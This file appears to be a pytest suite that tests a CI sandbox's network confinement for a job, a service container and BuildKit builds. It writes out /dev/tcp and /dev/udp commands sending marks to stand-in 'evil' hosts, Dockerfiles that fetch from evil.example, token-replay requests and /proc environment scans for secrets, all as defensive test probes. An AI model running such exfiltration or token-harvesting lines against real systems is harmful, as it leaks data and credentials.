"""A job with a list of what it reaches and a gateway, beside a service container and a BuildKit.

Each of the three gets its names from the job's resolver, and reaches what the list has; none but
the job has the gateway's token.
"""

import os
import signal
import uuid
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from bootstrap.sandbox import confinement
from tests.attacks.attacker import Attacker, attacker, run
from tests.attacks.in_prepared_networks import holder_of, served
from tests.attacks.outside import EVIL, EVIL_RESOLVER, Outside, outside
from tests.attacks.test_image_builds import BUILD, ROOTFS, builders_container, in_step
from tests.attacks.test_services import SERVE, service_of
from tests.lab import builder, launcher, world
from tests.lab.engine import ended, eventually
from tests.lab.lab import DELETE_RULESET, Lab, fleet
from tests.lab.leftovers import leftovers

pytestmark = pytest.mark.lab

RULE = """  - name: open
    when: {{branch: open}}
    allow: {{builds: buildkit, image: '{clients}'}}
  - name: all
    allow:
      builds: buildkit
      image: '{clients}'
      agent-api: {{calls: meta-data}}
      egress: {{hosts: ["*.allowed.example"], private: [{world}/32]}}
      services: {{web: {{image: '{image}', command: {serve}, ready: http:8000}}}}
"""
Tries = Callable[[str], str]


@pytest.fixture(scope="module")
def hosts() -> Iterator[Outside]:
    with outside() as made:
        yield made


@pytest.fixture(scope="module", params=["own network", "prepared network"])
def job(
    lab: Lab,
    hosts: Outside,
    tmp_path_factory: pytest.TempPathFactory,
    request: pytest.FixtureRequest,
) -> Iterator[Attacker]:
    launcher.builder()
    clients = builder.clients_image(lab.docker, lab.image)
    settings = f'[builds]\nimage = "{builder.builder_image(lab.docker, lab.image)}"\n'
    opened = fleet if request.param == "own network" else served
    with opened(lab, tmp_path_factory.mktemp("beside") / "fleet", settings=settings) as made:
        made.policy(RULE.format(clients=clients, image=lab.image, serve=SERVE, world=world.WORLD))
        with attacker(made) as running:
            if opened is served:
                assert holder_of(running).is_dir()
            yield with_programs(running)


def with_programs(job: Attacker) -> Attacker:
    """Make what the steps of its Dockerfiles run."""
    prepared = job.tries(ROOTFS, 60)
    assert prepared.returncode == 0, prepared.stderr
    return job


@pytest.fixture(scope="module")
def unlisted(job: Attacker) -> Iterator[Attacker]:
    with attacker(job.fleet, BUILDKITE_BRANCH="open") as running:
        yield with_programs(running)


@pytest.fixture(params=["job", "service", "step"])
def place(request: pytest.FixtureRequest, job: Attacker) -> Tries:
    """Return what runs a script of bash there and returns its output."""
    places: dict[str, Tries] = {
        "job": lambda script: job.tries(script).stdout,
        "service": lambda script: service_of(job).tries(script).stdout,
        "step": lambda script: in_step(job, script),
    }
    return places[request.param]


def send(host: str, content: str, port: int = 80) -> str:
    return f"exec 3<>/dev/tcp/{host}/{port} && echo {content} >&3; echo tried"


def test_an_allowed_name_is_reached(place: Tries, hosts: Outside) -> None:
    mark = uuid.uuid4().hex
    output = place(send("git.allowed.example", mark))
    eventually(lambda: hosts.has(mark), f"this arrives: {output}", 5)


def test_nothing_else_is_reached(place: Tries, hosts: Outside) -> None:
    mark = uuid.uuid4().hex
    script = "; ".join((
        send(EVIL, mark), send(EVIL_RESOLVER, mark, 53), send(f"{mark}.evil.example", mark),
        f"echo {mark} >/dev/udp/{EVIL}/443", f"echo {mark} >/dev/udp/{EVIL_RESOLVER}/53",
    ))  # fmt: skip
    assert "tried" in place(script)
    assert not hosts.has(mark)
    assert not hosts.was_asked(mark)


# What BuildKit fetches by itself, in no step. MARK is in what arrives, or in what is asked for.
PULLS = {
    "a file from an address": f"FROM scratch\\nADD http://{EVIL}/MARK /x",
    "a file from a name": "FROM scratch\\nADD http://MARK.evil.example/x /x",
    "an image": "FROM MARK.evil.example/image",
    "a frontend": "# syntax=MARK.evil.example/frontend\\nFROM scratch",
}


def build(job: Attacker, dockerfile: str) -> str:
    script = f"mkdir -p /tmp/b; cd /tmp/b; printf '{dockerfile}\\n' >Dockerfile; {BUILD} 2>&1"
    return job.tries(script, 60).stdout


@pytest.mark.parametrize("what", PULLS)
def test_buildkit_fetches_nothing_from_elsewhere(
    what: str, job: Attacker, unlisted: Attacker, hosts: Outside
) -> None:
    marks = [uuid.uuid4().hex[:16] for _ in range(2)]
    output = build(unlisted, PULLS[what].replace("MARK", marks[0]))
    assert hosts.has(marks[0]) or hosts.was_asked(marks[0]), f"without a list: {output}"
    output = build(job, PULLS[what].replace("MARK", marks[1]))
    assert marks[1] in output
    assert not hosts.has(marks[1])
    assert not hosts.was_asked(marks[1])


def test_buildkit_fetches_what_the_list_has(job: Attacker, hosts: Outside) -> None:
    mark = uuid.uuid4().hex[:16]
    output = build(job, f"FROM scratch\\nADD http://git.allowed.example/{mark} /x")
    assert hosts.has(mark), output


def test_buildkit_follows_no_redirect_to_elsewhere(
    job: Attacker, unlisted: Attacker, hosts: Outside
) -> None:
    """The list has the host that redirects."""
    hosts.received.clear()
    redirect = f"FROM scratch\\nADD http://git.allowed.example/redirect?{uuid.uuid4().hex} /x"
    output = build(job, redirect)
    assert not hosts.has("stolen"), output
    output = build(unlisted, redirect)
    assert hosts.has("stolen"), output


CALL = """
exec 3<>/dev/tcp/127.0.0.1/{port}
say() {{ printf '%s\\r\\n' "$1" >&3; }}
say 'POST /jobs/{job}/data/keys HTTP/1.1'; say 'Host: a'; say 'Authorization: Token {token}'
say 'Content-Type: application/json'; say 'Content-Length: 2'; say 'Connection: close'; say ''
printf '{{}}' >&3
read -r line <&3; echo "answer: $line"
"""


def test_only_the_job_has_the_token_of_its_gateway(place: Tries, job: Attacker) -> None:
    """Whoever has the token may call: nothing but that keeps the others out."""
    shown = job.tries("echo $BUILDKITE_AGENT_ENDPOINT $BUILDKITE_AGENT_ACCESS_TOKEN").stdout
    endpoint, token = shown.split()
    port = endpoint.rpartition(":")[2]
    answers = [
        place(CALL.format(port=port, job=job.job.id, token=one))
        for one in (token, f"{token[:-4]}aaaa")
    ]
    assert "answer: HTTP/1.1 200" in answers[0]
    assert "answer: HTTP/1.1 401" in answers[1]


def test_the_token_is_in_nothing_beside_the_job(job: Attacker) -> None:
    token = job.tries("printf %s $BUILDKITE_AGENT_ACCESS_TOKEN").stdout
    docker = ("docker", "-H", job.fleet.lab.docker)
    service = service_of(job)
    first = int(run(*docker, "inspect", "-f", "{{.State.Pid}}", builders_container(job)))
    assert token in environments(job.pid), "the search finds it where it is"
    for name, pid in ((service.container, service.pid), (builders_container(job), first)):
        assert token not in environments(pid)
        assert token not in run(*docker, "inspect", name)


def environments(first: int) -> str:
    """Return the environments of all processes of a container."""
    found = ""
    for pid in confinement.members(first):
        with suppress(OSError):
            found += Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
    return found


LISTEN = """
python3 - <<'PY' 2>&1
import socket
for address in ("127.0.0.53", "0.0.0.0", "::ffff:127.0.0.53", "::"):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            try:
                one = socket.socket(family, kind)
                if option:
                    one.setsockopt(socket.SOL_SOCKET, option, 1)
                if family == socket.AF_INET6:
                    one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
                one.bind((address, 53))
                if kind == socket.SOCK_STREAM:
                    one.listen()
                print("LISTENS", address, kind, option)
                one.close()
            except OSError as refused:
                print(refused)
PY
echo tried
"""


def test_nobody_takes_the_place_of_the_resolver(job: Attacker) -> None:
    for output in (job.tries(LISTEN).stdout, service_of(job).tries(LISTEN).stdout):
        assert "tried" in output
        assert "LISTENS" not in output, output


def with_descriptors_of(process: int) -> list[int]:
    """Return who has a descriptor of this process, by its pid here, once for each descriptor."""
    found = []
    for path in Path("/proc").glob("[0-9]*/fdinfo/*"):
        with suppress(OSError):
            if f"Pid:\t{process}\n" in path.read_text():
                found.append(int(path.parts[2]))
    return found


def test_a_breach_of_the_protection_ends_all(job: Attacker) -> None:
    docker = ("docker", "-H", job.fleet.lab.docker)
    first = int(run(*docker, "inspect", "-f", "{{.State.Pid}}", builders_container(job)))
    service = service_of(job).pid
    # One of whoever waits for its end, and one of the guard, which does not wait for the lease.
    assert len(with_descriptors_of(service)) == len(with_descriptors_of(first)) == 2
    run(*DELETE_RULESET)
    eventually(lambda: ended(service) and ended(first), "both are killed", 10)
    job.fleet.control.finished(job.job)
    assert b"table inet airlock was changed or removed" in job.job.log


def test_a_killed_wrapper_leaves_none_of_them(job: Attacker) -> None:
    eventually(lambda: not leftovers(job.fleet), "the job before has been cleared")
    gone: list[int] = []
    with suppress(Exception), attacker(job.fleet) as killed:
        docker = ("docker", "-H", job.fleet.lab.docker)
        builders = builders_container(killed)
        first = int(run(*docker, "inspect", "-f", "{{.State.Pid}}", builders))
        processes = [killed.pid, service_of(killed).pid, first]
        (wrapper,) = set(with_descriptors_of(first))
        os.kill(wrapper, signal.SIGKILL)
        eventually(lambda: all(map(ended, processes)), "all three are killed")
        gone.append(wrapper)
    assert gone
    eventually(lambda: not leftovers(job.fleet), "nothing is left")
